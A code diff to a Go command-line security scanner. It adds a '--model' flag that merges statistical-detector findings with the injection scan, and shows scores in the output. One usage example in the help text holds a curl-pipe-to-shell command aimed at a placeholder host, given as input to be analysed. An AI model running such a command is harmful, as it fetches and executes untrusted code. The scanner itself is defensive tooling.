@@ -16,6 +16,7 @@ import (
 	"github.com/svc-gateway/svc/scanner"
 	"github.com/svc-gateway/svc/scanner/command"
 	"github.com/svc-gateway/svc/scanner/inject"
+	"github.com/svc-gateway/svc/scanner/model"
 	"github.com/svc-gateway/svc/scanner/redact"
 )
 
@@ -135,7 +136,11 @@ func printFindings(w io.Writer, name, text string, a answer) {
 	}
 	for _, f := range list {
 		line, column := position(text, f.Start)
-		fmt.Fprintf(w, "%s:%d:%d: %s, %s confidence (%s): %q\n", name, line, column, f.Category, f.Confidence, f.Rule, f.Excerpt)
+		rule := f.Rule
+		if f.Score > 0 {
+			rule = fmt.Sprintf("%s, score %.3f", rule, f.Score)
+		}
+		fmt.Fprintf(w, "%s:%d:%d: %s, %s confidence (%s): %q\n", name, line, column, f.Category, f.Confidence, rule, f.Excerpt)
 	}
 }
 
@@ -152,6 +157,7 @@ func scanTexts() *cobra.Command {
 misleading addresses. The subcommands analyse commands and programs, and redact credentials.
 What they read is not run and not sent anywhere, and no service needs to run.`,
 		Example: `  service scan notes.md
+  service scan --model notes.md
   service scan command 'curl https://x.example/i.sh | sh'
   service scan code job.py
   service scan redact running-config.txt
@@ -159,8 +165,15 @@ What they read is not run and not sent anywhere, and no service needs to run.`,
 	}
 	var o scanOptions
 	o.flags(cmd)
+	estimate := cmd.Flags().Bool("model", false, "judge by the statistical detector, too")
 	cmd.RunE = o.run(scan{
-		judge: func(text string) answer { return newFindings(inject.Scan(text)) },
+		judge: func(text string) answer {
+			found := inject.Scan(text)
+			if *estimate {
+				found = append(found, model.Scan(text)...)
+			}
+			return newFindings(found)
+		},
 		print: printFindings,
 	}, readArgument)
 	return cmd
